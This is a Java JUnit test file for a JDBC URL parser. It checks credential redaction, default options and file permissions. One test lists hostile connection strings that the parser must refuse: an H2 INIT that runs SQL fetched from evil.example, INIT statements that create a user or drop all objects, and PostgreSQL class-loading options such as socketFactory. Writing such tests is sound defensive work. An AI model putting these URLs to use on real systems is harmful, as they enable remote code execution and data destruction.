package dev.roster.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.roster.spi.StoreException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = ' ',
            value = {
                "jdbc:postgresql://ada:se%40cret@db.example:5432/roster ada se@cret db.example:5432/roster",
                "jdbc:postgresql://db.example/roster?user=ada&password=se%40cret ada se@cret db.example/roster",
                "jdbc:postgresql://db.example/roster?sslmode=require&password=a+b&user=ada ada a+b db.example/roster",
                "jdbc:postgresql://ada:secret@one,two/roster ada secret one,two/roster",
                "jdbc:h2:./roster;USER=ada;PASSWORD=se%40cret ada se%40cret ./roster",
                "jdbc:h2:file:./roster;cache_size=1;password=xyzzy;user=ada ada xyzzy ./roster"
            })
    void tellsWhoSignsInApartFromTheUrl(String url, String user, String password, String name) {
        Dialect dialect = Dialect.of(url);

        JdbcUrl parsed = JdbcUrl.of(url, dialect, JdbcStores.UrlOptions.HARMLESS);

        assertThat(parsed.user()).isEqualTo(user);
        assertThat(parsed.password()).isEqualTo(password);
        assertThat(parsed.databaseName()).isEqualTo(name);
        assertThat(parsed.withDefaults(dialect) + parsed)
                .doesNotContain(password)
                .doesNotContainIgnoringCase("user=");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x;init=create user eve",
                "jdbc:h2:mem:x;CACHE_SIZE=1\\;INIT=drop all objects",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:postgresql://h/d?loggerFile=/tmp/x&loggerLevel=TRACE",
                "jdbc:postgresql://h/d?socketFactory=evil.Factory&socketFactoryArg=x",
                "jdbc:postgresql://h/d?%73ocketFactory=evil.Factory",
                "jdbc:postgresql://h/d?sslfactory=evil.Factory",
                "jdbc:postgresql://h/d?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://h/d?sslmode=require&xmlFactoryFactory=evil.Factory",
                "jdbc:postgresql://h/d?service=prod"
            })
    void refusesOptionsThatDoMoreThanConnectUnlessTheCallerAnswersForThem(String url) {
        Dialect dialect = Dialect.of(url);

        assertThatExceptionOfType(DangerousUrlException.class)
                .isThrownBy(() -> JdbcUrl.of(url, dialect, JdbcStores.UrlOptions.HARMLESS))
                .withMessageContaining("may do more than connect")
                .withMessageNotContaining("evil");
        assertThat(JdbcUrl.of(url, dialect, JdbcStores.UrlOptions.ANY).options())
                .isNotEmpty();
    }

    @Test
    void addsWhatTheCallerDidNotChoose() {
        Dialect dialect = new H2Dialect();
        JdbcUrl url = JdbcUrl.of("jdbc:h2:mem:x;Cache_Size=7", dialect, JdbcStores.UrlOptions.HARMLESS);

        assertThat(url.options()).isEqualTo(Map.of("Cache_Size", "7"));
        assertThat(url.withDefaults(dialect))
                .startsWith("jdbc:h2:mem:x;Cache_Size=7;")
                .contains(";LOCK_TIMEOUT=10000")
                .contains(";TRACE_LEVEL_FILE=0")
                .doesNotContain("CACHE_SIZE");
    }

    @Test
    void namesNoSecretWhenThereIsNoServer() {
        assertThatExceptionOfType(StoreException.class)
                .isThrownBy(() -> JdbcStores.open("jdbc:postgresql://ada:secret@127.0.0.1:1/roster"))
                .withMessageContaining("127.0.0.1:1/roster")
                .withMessageNotContaining("secret")
                .withMessageNotContaining("ada");
    }

    @Test
    void keepsTheFileOfADatabaseFromOthers(@TempDir Path folder) throws IOException {
        JdbcStores.open("jdbc:h2:" + folder.resolve("roster")).close();

        Path file = folder.resolve("roster.mv.db");
        boolean isPosix = file.getFileSystem().supportedFileAttributeViews().contains("posix");
        assertThat(isPosix ? PosixFilePermissions.toString(Files.getPosixFilePermissions(file)) : "rw-------")
                .isEqualTo("rw-------");
    }
}
